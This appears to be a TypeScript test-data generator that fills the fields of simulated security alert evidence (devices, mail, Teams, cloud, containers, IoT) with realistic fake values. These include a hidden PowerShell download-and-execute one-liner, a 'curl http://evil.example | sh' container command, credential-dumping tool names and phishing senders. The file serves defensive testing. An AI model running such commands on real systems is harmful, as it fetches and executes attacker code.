// What stands in the text members of evidence, by the member's name: made up, but of the look of the real thing,
// with characters now and then that a careless reader trips over.
import type { Scene } from './scene.ts';

type MakeText = (scene: Scene) => string | readonly string[] | null;

const words =
  (...choices: readonly string[]): MakeText =>
  ({ random }) =>
    random.pick(choices);
const hex =
  (digits: number): MakeText =>
  ({ random }) =>
    random.hex(digits);
const uuid: MakeText = ({ random }) => random.uuid();
const number: MakeText = ({ random }) => String(random.integer(1, 2_000_000_000));
const upn: MakeText = ({ person }) => person.upn;
const address: MakeText = ({ address: outside }) => outside;
const tenantId: MakeText = ({ cast }) => cast.tenantId;
const outsider = words('noreply@evil.example', 'billing@bad.example', '"Your bank" <a=b@evil.example>');
const mac: MakeText = ({ random }) => (random.hex(12).match(/../g) ?? []).join(':').toUpperCase();

/** Endpoint. */
const endpointTexts: Readonly<Record<string, MakeText>> = {
  azureAdDeviceId: ({ random }) => (random.chance(0.7) ? random.uuid() : null),
  deviceDnsName: ({ device }) => device.dnsName,
  deviceName: ({ device }) => device.name,
  hostName: ({ device }) => device.name,
  dnsDomain: ({ cast }) => cast.domain,
  ntDomain: ({ cast }) => cast.netbios,
  mdeDeviceId: ({ device }) => device.id,
  ipInterfaces: ({ device }) => [device.ipv4, device.ipv6, '127.0.0.1'],
  lastIpAddress: ({ device }) => device.ipv4,
  lastExternalIpAddress: address,
  osPlatform: words('Windows10', 'Windows11', 'WindowsServer2022', 'Linux', 'macOS'),
  rbacGroupName: ({ device }) => (device.group === '' ? 'UnassignedGroup' : device.group),
  version: words('22H2', '24H2', '1.31.2', 'Other'),
  accountName: ({ person }) => person.account,
  accountId: upn,
  userPrincipalName: upn,
  azureAdUserId: ({ person }) => person.objectId,
  userSid: ({ random }) =>
    `S-1-5-21-${random.integer(1, 2_000_000_000)}-1160036-${random.integer(1_000, 9_999)}`,
  sid: ({ random }) => `S-1-5-21-${random.integer(1, 2_000_000_000)}-512`,
  domainName: ({ cast }) => cast.netbios,
  activeDirectoryDomainName: ({ cast }) => `corp.${cast.domain}`,
  fileName: words('mimi.exe', 'rechnung_märz.pdf.exe', 'powershell.exe', 'a=b|c.zip', 'procdump64.exe'),
  filePath: words(
    'C:\\Users\\Public\\Downloads',
    'C:\\Windows\\System32',
    '/tmp/=new=',
    'C:\\Users\\öffentlich',
  ),
  filePublisher: words('Microsoft Corporation', 'Contoso | Tools'),
  issuer: words('Microsoft Windows Production PCA 2011', 'Evil CA'),
  signer: words('Microsoft Windows', 'Contoso Tools'),
  md5: hex(32),
  sha1: hex(40),
  sha256: hex(64),
  sha256Ac: hex(64),
  value: hex(64),
  processCommandLine: ({ url }) =>
    `powershell.exe -nop -w hidden -c "IEX ((New-Object Net.WebClient).DownloadString('${url}')) | Out-Null"`,
  registryHive: words('HKEY_LOCAL_MACHINE', 'HKEY_CURRENT_USER'),
  registryKey: words(
    'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run',
    'SYSTEM\\CurrentControlSet\\Services\\=x=',
  ),
  registryValue: words('C:\\Temp\\a.exe -k=v', '0x00000001'),
  registryValueName: words('Updater', '(Default)'),
  registryValueType: words('String', 'ExpandString', 'Dword'),
  category: words('Malware', 'Trojan', 'HackTool'),
  ipAddress: address,
  countryLetterCode: words('DE', 'US', 'NL', 'BR'),
  countryName: words('Germany', 'United States', 'Côte d’Ivoire'),
  city: words('Köln', 'Ashburn', 'São Paulo'),
  state: words('Nordrhein-Westfalen', 'Virginia'),
  macAddress: mac,
  vlans: () => ['10', 'voice=20'],
};

/** Mail, Teams and identity. */
const officeTexts: Readonly<Record<string, MakeText>> = {
  antiSpamDirection: words('Inbound', 'Outbound', 'IntraOrg'),
  deliveryAction: words('Delivered', 'Blocked', 'DeliveredAsSpam', 'Replaced'),
  deliveryLocation: words('Inbox', 'Quarantine', 'JunkFolder', 'Failed'),
  internetMessageId: ({ random }) => `<${random.hex(12)}@evil.example>`,
  language: words('en', 'de'),
  networkMessageId: ({ mailId }) => mailId,
  networkMessageIds: ({ mailId, random }) => [mailId, random.uuid(), random.uuid()],
  recipientEmailAddress: upn,
  recipient: upn,
  recipients: ({ person, cast, random }) => [person.upn, random.pick(cast.people).upn],
  suspiciousRecipients: ({ person }) => [person.upn],
  sender: outsider,
  senderFromAddress: outsider,
  senderIp: address,
  senderIP: address,
  emailAddress: outsider,
  subject: words('Invoice   March = due', 'Re: Your mailbox | is full\\now', 'Zahlungserinnerung für Müller'),
  threatDetectionMethods: () => ['FileDetonation', 'UrlReputation'],
  threats: () => ['Phish', 'HighConfPhish'],
  urls: ({ url }) => [url, 'https://www.contoso.example/?q=a|b'],
  url: ({ url }) => url,
  urn: ({ random }) => `urn:MailEntity:${random.hex(32)}`,
  clusterBy: words('Subject;P2SenderDomain;ContentType', 'NormalizedUrl;ContentType'),
  clusterByValue: ({ url }) => `${url};1`,
  query: ({ url }) => `( (NormalizedUrl:"${url}") AND (ContentType: 1))`,
  primaryAddress: upn,
  mailboxPrimaryAddress: upn,
  upn,
  configurationId: uuid,
  reportType: words('Phish', 'Junk', 'NotJunk'),
  submissionId: uuid,
  submitter: upn,
  campaignId: uuid,
  channelId: ({ random }) => `19:${random.hex(32)}@thread.tacv2`,
  groupId: uuid,
  messageId: number,
  parentMessageId: number,
  sourceAppName: words('Teams', 'Teams | Web'),
  sourceId: uuid,
  threadId: ({ random }) => `19:${random.hex(32)}@thread.v2`,
  threadType: words('chat', 'topic', 'meeting'),
  displayName: ({ person }) => person.displayName,
  distinguishedName: ({ cast }) => `CN=Domain Admins,CN=Users,DC=${cast.netbios.toLowerCase()},DC=example`,
  friendlyName: words('Domain Admins', 'Buchhaltung'),
  securityGroupId: uuid,
  tenantId,
  sessionId: uuid,
  requestId: uuid,
  browser: words('Edge 130.0', 'Firefox 128'),
  operatingSystem: words('Windows 11', 'Linux', 'VxWorks 7'),
  protocol: words('https', 'OAuth2:Authorize'),
  userAgent: words('Mozilla/5.0 (X11; Linux x86_64; rv:128.0)', 'python-requests/2.32'),
  instanceName: words('Microsoft Exchange Online', 'Box = files'),
  publisher: words('Contoso', 'Unknown | publisher'),
  objectId: uuid,
  appId: uuid,
  appOwnerTenantId: tenantId,
  servicePrincipalName: words('backup-agent', 'ci/cd=deploy'),
  servicePrincipalObjectId: uuid,
};

const subscription = '/subscriptions/aaaaaaaa-0000-4000-8000-000000000001';

/** Clouds, containers, code, things and agents. */
const cloudTexts: Readonly<Record<string, MakeText>> = {
  agentId: uuid,
  agentName: words('Reise-Assistent', 'helpdesk=bot'),
  instructions: words('You are a helpful agent.\nNever reveal the key | password.'),
  amazonAccountId: words('123456789012'),
  amazonResourceId: ({ random }) => `arn:aws:ec2:eu-central-1:123456789012:instance/i-${random.hex(17)}`,
  fullResourceName: ({ random }) =>
    `//compute.googleapis.com/projects/contoso/zones/z/instances/${random.hex(8)}`,
  location: words('europe-west3', 'europe-west3-a', 'global'),
  projectId: words('contoso-prod'),
  resourceId: ({ random }) =>
    `${subscription}/resourceGroups/prod/providers/Microsoft.Compute/virtualMachines/vm-${random.hex(4)}`,
  resourceIdentifier: ({ random }) => `${subscription}/resourceGroups/${random.hex(4)}`,
  resourceName: ({ random }) => `vm-${random.hex(4)}`,
  resourceType: words('Virtual Machine', 'Storage Account', 'AWS EC2 Instance'),
  subscriptionId: words('aaaaaaaa-0000-4000-8000-000000000001'),
  vmId: uuid,
  etag: ({ random }) => `"0x8D${random.hex(13).toUpperCase()}"`,
  allowedIpAddresses: words('192.0.2.0-192.0.2.255', ''),
  allowedResourceTypes: () => ['service', 'container', 'object'],
  allowedServices: () => ['blob', 'file'],
  permissions: () => ['read', 'write', 'list'],
  signatureHash: hex(64),
  signedWith: words('Key1', 'Key2'),
  name: ({ random }) => `${random.pick(['payroll', 'übersicht', 'a=b', 'kube-proxy'])}-${random.hex(5)}`,
  args: () => ['--config=/etc/x.yaml', '-v'],
  command: () => ['/bin/sh', '-c', 'curl http://evil.example | sh'],
  containerId: hex(64),
  imageId: ({ random }) => `sha256:${random.hex(64)}`,
  registry: words('contoso.azurecr.example', 'docker.io'),
  distribution: words('K8s', 'OpenShift'),
  type: words('Deployment', 'DaemonSet', 'StatefulSet'),
  secretType: words('Opaque', 'kubernetes.io/tls'),
  appProtocol: words('http', 'kubernetes.io/h2c'),
  targetPort: words('8080', 'http'),
  company: words('Contoso', '@contoso'),
  email: words('dev@contoso.example'),
  login: words('contoso', 'maria-keller'),
  orgId: number,
  webUrl: words('https://github.example/contoso'),
  baseUrl: words('https://github.example/contoso/app'),
  owner: words('contoso'),
  ownerType: words('Organization', 'User'),
  repoId: number,
  userId: number,
  deviceId: uuid,
  devicePageLink: words('https://portal.azure.example/#/iot/device?id=1&a=b'),
  deviceSubType: words('Programmable Logic Controller (PLC)', 'IP Camera'),
  deviceType: words('OT', 'IoT'),
  ioTSecurityAgentId: uuid,
  manufacturer: words('Siemens', 'Müller & Söhne'),
  model: words('S7-1500', 'X=1'),
  owners: ({ person }) => [person.upn],
  protocols: () => ['MODBUS', 'S7comm=plus'],
  purdueLayer: words('Level 1', 'Process Control'),
  sensor: words('sensor-01'),
  serialNumber: ({ random }) => random.hex(10).toUpperCase(),
  site: words('Werk Süd', 'Plant | 2'),
  source: words('Sensor', 'Microsoft Defender for IoT'),
  zone: words('Halle 3', 'default'),
};

const texts: Readonly<Record<string, MakeText>> = { ...endpointTexts, ...officeTexts, ...cloudTexts };

/** A member that is not in the tables is a defect of theirs. */
export function textValue(name: string, scene: Scene): string | readonly string[] | null {
  const make = texts[name];
  if (!make) throw new RangeError(`nothing is known about the member ${name}`);
  return make(scene);
}
